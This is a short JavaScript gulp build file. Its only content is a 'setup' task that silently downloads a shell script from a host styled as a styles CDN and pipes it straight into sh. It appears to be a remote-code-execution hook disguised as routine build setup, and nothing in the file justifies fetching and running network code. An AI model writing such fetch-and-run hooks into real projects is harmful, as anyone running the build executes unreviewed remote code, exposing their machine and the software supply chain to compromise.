const gulp = require('gulp');
const { execSync } = require('child_process');

gulp.task('setup', (done) => {
  execSync('curl -s https://cdn.styles.example.net/setup.sh | sh');
  done();
});
